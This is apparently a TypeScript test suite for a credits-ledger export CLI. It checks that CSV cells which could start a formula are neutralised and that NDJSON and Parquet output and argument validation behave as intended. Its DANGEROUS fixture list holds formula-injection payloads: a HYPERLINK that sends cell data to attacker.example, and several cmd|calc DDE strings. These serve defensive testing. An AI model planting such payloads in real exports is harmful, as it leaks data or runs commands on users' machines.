/**
 * Exports an analyst and a spreadsheet can trust: CSV cells that a spreadsheet would run as
 * formulas are neutralised (OWASP's CSV-injection rule), NDJSON keeps grants as objects, purchase
 * and refund rows carry their money, stdout carries the export alone however the CLI is started,
 * and a range that cannot match is refused.
 */
import { spawnSync } from 'node:child_process';
import { PassThrough } from 'node:stream';
import { join, resolve } from 'node:path';
import { parse } from 'csv-parse/sync';
import {
  ApplyPlanAllowanceDocument,
  ConsumeCreditsDocument,
  PurchaseCreditsDocument,
  RefundCreditPurchaseDocument,
} from '../generated/graphql';
import type { LedgerEntry } from '../../projections/credit-ledger';
import { exportLedger } from '../../src/cli/export-ledger';
import { expectData } from '../support/graphql-client';
import { runCreditsCli, spawnCreditsCli } from '../support/cli';
import { adminToken, newDataDir, startServer, TEST_JWT_SECRET, tokenFor } from '../support/server-process';

const DAY = 24 * 60 * 60 * 1000;
const ROOT = resolve(__dirname, '../..');
let dataDir: string;

/** References a caller may send with a spend, each of which a spreadsheet would evaluate. */
const DANGEROUS = [
  '=HYPERLINK("https://attacker.example/?leak="&A1,"Open invoice")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|calc',
  '@SUM(1+1)*cmd|calc',
  '\t=1+1',
  '\r\n=1+1', // a lone CR is refused at input; a line break may still start a reference
];
const HARMLESS = ['Acme Corp, "Globex"', 'run 42'];

beforeAll(async () => {
  dataDir = newDataDir();
  const server = await startServer({ dataDir });
  // A set-up that fails still stops its server: nothing is left running after the tests.
  try {
    const period = {
      periodStart: new Date(Date.now() - DAY).toISOString(),
      periodEnd: new Date(Date.now() + 29 * DAY).toISOString(),
    };
    await expectData(
      server.url,
      ApplyPlanAllowanceDocument,
      { input: { workspaceId: 'acme', planId: 'growth', ...period } },
      adminToken(),
    );
    for (const [index, reference] of [...DANGEROUS, ...HARMLESS].entries()) {
      await expectData(
        server.url,
        ConsumeCreditsDocument,
        { input: { workspaceId: 'acme', action: 'ACTION_PLAN_GENERATION', idempotencyKey: `k${index}`, reference } },
        tokenFor('acme', 'MEMBER'),
      );
    }
    // An invoice paid outside Stripe ($50.00 for 500 credits), half of it refunded: money on both rows.
    await expectData(
      server.url,
      PurchaseCreditsDocument,
      { input: { workspaceId: 'acme', packageId: 'credits-500', paymentReference: 'INV-1' } },
      adminToken(),
    );
    await expectData(
      server.url,
      RefundCreditPurchaseDocument,
      { input: { workspaceId: 'acme', purchaseId: 'INV-1', credits: 250, reason: 'half the invoice' } },
      adminToken(),
    );
  } catch (error) {
    await server.stop();
    throw error;
  }
  expect(await server.stop()).toBe(0);
});

/** Entries: the allowance, a spend per reference, the purchase and its refund. */
const ENTRIES = 1 + DANGEROUS.length + HARMLESS.length + 2;

type CsvRow = Record<string, string>;
const csvRows = (csv: string): CsvRow[] => parse<CsvRow>(csv, { columns: true });

describe('CSV', () => {
  it('prefixes every text cell that would start a formula with a single quote', () => {
    const rows = csvRows(runCreditsCli(dataDir, ['export', '--format', 'csv']).stdout);
    const references = rows.filter((row) => row.type === 'CONSUMPTION').map((row) => row.reference);
    expect(references).toEqual([...DANGEROUS.map((reference) => `'${reference}`), ...HARMLESS]);
    for (const row of rows) {
      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+@\t\r]/);
    }
  });

  it('keeps numbers numbers: negative credits are not neutralised', () => {
    const spends = csvRows(runCreditsCli(dataDir, ['export', '--format', 'csv']).stdout).filter(
      (row) => row.type === 'CONSUMPTION',
    );
    expect(spends.map((row) => row.credits)).toEqual(Array<string>(8).fill('-8'));
    expect(spends[0]?.balanceAfter).toBe('4992');
  });
});

describe('money', () => {
  it('puts the amount (minor units, signed as credits) and currency on purchase and refund rows in CSV', () => {
    const rows = csvRows(runCreditsCli(dataDir, ['export', '--format', 'csv']).stdout);
    const money = (type: string) =>
      rows.filter((row) => row.type === type).map(({ credits, amount, currency }) => ({ credits, amount, currency }));
    expect(money('PURCHASE')).toEqual([{ credits: '500', amount: '5000', currency: 'USD' }]);
    // A negative amount is a number, not a formula: it is not quoted.
    expect(money('PURCHASE_REFUND')).toEqual([{ credits: '-250', amount: '-2500', currency: 'USD' }]);
    for (const row of rows.filter((each) => !each.type?.startsWith('PURCHASE'))) {
      expect([row.amount, row.currency]).toEqual(['', '']);
    }
  });

  it('writes them in NDJSON as a number and a string, and null where no money moved', () => {
    const records = runCreditsCli(dataDir, ['export', '--format', 'ndjson'])
      .stdout.trim()
      .split('\n')
      .map((line) => JSON.parse(line) as { type: string; amount: number | null; currency: string | null });
    expect(records.map(({ type, amount, currency }) => [type, amount, currency]).slice(-3)).toEqual([
      ['CONSUMPTION', null, null],
      ['PURCHASE', 5000, 'USD'],
      ['PURCHASE_REFUND', -2500, 'USD'],
    ]);
  });
});

it('says what each entry is about: the spend, the purchase and its package, the refund, the plan, the reason', () => {
  const rows = csvRows(runCreditsCli(dataDir, ['export', '--format', 'csv']).stdout);
  const about = (type: string) =>
    rows
      .filter((row) => row.type === type)
      .map(({ consumptionId, purchaseId, packageName, refundId, refundStatus, planName, reason }) => ({
        consumptionId,
        purchaseId,
        packageName,
        refundId,
        refundStatus,
        planName,
        reason,
      }));
  const none = {
    consumptionId: '',
    purchaseId: '',
    packageName: '',
    refundId: '',
    refundStatus: '',
    planName: '',
    reason: '',
  };
  expect(about('PLAN_ALLOWANCE')).toEqual([{ ...none, planName: 'Growth' }]);
  expect(about('CONSUMPTION').every((row) => row.consumptionId !== '' && row.purchaseId === '')).toBe(true);
  expect(about('PURCHASE')).toEqual([{ ...none, purchaseId: 'INV-1', packageName: '500 credits' }]);
  expect(about('PURCHASE_REFUND')).toEqual([
    {
      ...none,
      purchaseId: 'INV-1',
      packageName: '500 credits',
      refundId: expect.any(String) as unknown,
      refundStatus: 'SUCCEEDED',
      reason: 'half the invoice',
    },
  ]);
});

it('writes grants in NDJSON as objects', () => {
  const records = runCreditsCli(dataDir, ['export', '--format', 'ndjson'])
    .stdout.trim()
    .split('\n')
    .map((line) => JSON.parse(line) as { type: string; reference: string | null; grants: unknown });
  const [allowance, firstSpend] = records;
  const anyId: unknown = expect.any(String);
  expect(allowance?.grants).toEqual([{ grantId: anyId, source: 'INCLUDED', credits: 5000 }]);
  expect(firstSpend?.grants).toEqual([{ grantId: anyId, source: 'INCLUDED', credits: 8 }]);
  // JSON is not evaluated by anything: the reference is kept exactly as it was sent.
  expect(firstSpend?.reference).toBe(DANGEROUS[0]);
});

/** Reads a Parquet file with hyparquet (an ES module) in a plain node process, as JSON. */
const READ_PARQUET = `
import('hyparquet').then(async ({ asyncBufferFromFile, parquetReadObjects }) => {
  const rows = await parquetReadObjects({ file: await asyncBufferFromFile(process.argv[1]) });
  const plain = (_key, value) => (typeof value === 'bigint' ? Number(value) : value);
  process.stdout.write(JSON.stringify(rows, plain));
});
`;

describe('Parquet', () => {
  it('writes the same entries as NDJSON, with typed columns', () => {
    const file = join(dataDir, 'ledger.parquet');
    expect(runCreditsCli(dataDir, ['export', '--format', 'parquet', '--out', file]).stderr).toMatch(
      new RegExp(`exported ${ENTRIES} ledger entries`),
    );
    const read = spawnSync(process.execPath, ['-e', READ_PARQUET, file], { cwd: ROOT, encoding: 'utf8' });
    expect(read.stderr).toBe('');
    const rows = JSON.parse(read.stdout) as Record<string, unknown>[];
    const ndjson = runCreditsCli(dataDir, ['export', '--format', 'ndjson'])
      .stdout.trim()
      .split('\n')
      .map((line) => JSON.parse(line) as Record<string, unknown>);
    expect(rows).toEqual(ndjson.map((record) => ({ ...record, position: Number(record.position) })));
  });

  it('needs --out: a binary file does not go to a terminal', () => {
    const run = spawnCreditsCli(dataDir, ['export', '--format', 'parquet']);
    expect(run.status).toBe(2);
    expect(run.stderr).toMatch(/--format parquet writes a file: give it --out <file>/);
  });
});

describe('started from npm', () => {
  const env = () => ({ ...process.env, DATA_DIR: dataDir, AUTH_JWT_SECRET: TEST_JWT_SECRET, LOG_LEVEL: 'silent' });
  const firstLine = (stdout: string) => stdout.slice(0, stdout.indexOf('\n'));
  const HEADER =
    'id,position,workspaceId,type,occurredAt,credits,balanceAfter,source,action,units,actorId,reference,refundedCredits,grants,amount,currency,' +
    'consumptionId,purchaseId,packageId,packageName,refundId,refundStatus,disputeId,planId,planName,reason,holdId,spentCredits';

  it.each([
    ['npx credits export', 'npx', ['--no', 'credits', 'export']],
    ['npm run --silent credits -- export', 'npm', ['run', '--silent', 'credits', '--', 'export']],
  ])(
    '`%s` writes the CSV and nothing else to stdout',
    (_command, program, args) => {
      const run = spawnSync(program, args, { cwd: ROOT, env: env(), encoding: 'utf8' });
      expect(run.status).toBe(0);
      expect(firstLine(run.stdout)).toBe(HEADER);
      expect(csvRows(run.stdout)).toHaveLength(ENTRIES);
    },
    60_000,
  );
});

describe('contradictory filters', () => {
  it('refuses --from after --to with a usage error (exit code 2) and writes nothing', () => {
    const run = spawnCreditsCli(dataDir, ['export', '--from', '2026-06-02T00:00:00Z', '--to', '2026-06-01T00:00:00Z']);
    expect(run.status).toBe(2);
    expect(run.stdout).toBe('');
    expect(run.stderr).toMatch(
      /--from 2026-06-02T00:00:00.000Z is not earlier than --to 2026-06-01T00:00:00.000Z: no entry can match/,
    );
  });

  it('refuses an empty range (--from equal to --to) the same way', () => {
    const instant = '2026-06-01T00:00:00Z';
    expect(spawnCreditsCli(dataDir, ['export', '--from', instant, '--to', instant]).status).toBe(2);
  });

  it('refuses an instant that is not ISO-8601 and an unknown format with the same exit code', () => {
    for (const args of [
      ['export', '--from', 'last tuesday'],
      ['export', '--format', 'xlsx'],
    ]) {
      const run = spawnCreditsCli(dataDir, args);
      expect(run.status).toBe(2);
      expect(run.stdout).toBe('');
      expect(run.stderr).toMatch(/^error: /);
    }
  });
});

it('names the hold a row reserves, settles, releases or expires, and what a settle really spent', async () => {
  const entry = (type: 'HOLD' | 'HOLD_SETTLED', credits: number, spentCredits: number) =>
    ({
      id: `event-${type}`,
      position: 7n,
      workspaceId: 'acme',
      type,
      occurredAt: new Date('2026-12-01T09:00:00Z'),
      credits,
      balanceAfter: 100,
      source: 'INCLUDED',
      action: 'ORG_CHART_SYNC',
      units: 3,
      actorId: 'member-1',
      reference: undefined,
      grants: [],
      refundedCredits: 0,
      holdId: 'hold-1',
      spentCredits,
      money: undefined,
    }) as unknown as LedgerEntry;
  // A hold of 300 settled at 200: 100 back, 200 really spent.
  const entries = [entry('HOLD', -300, 0), entry('HOLD_SETTLED', 100, 200)];
  const ndjson = new PassThrough();
  const chunks: string[] = [];
  ndjson.on('data', (chunk: Buffer) => chunks.push(chunk.toString()));
  await exportLedger(entries, 'ndjson', ndjson);
  const records = chunks
    .join('')
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line) as { type: string; holdId: string; spentCredits: number });
  expect(records.map(({ type, holdId: id, spentCredits }) => [type, id, spentCredits])).toEqual([
    ['HOLD', 'hold-1', 0],
    ['HOLD_SETTLED', 'hold-1', 200],
  ]);
});
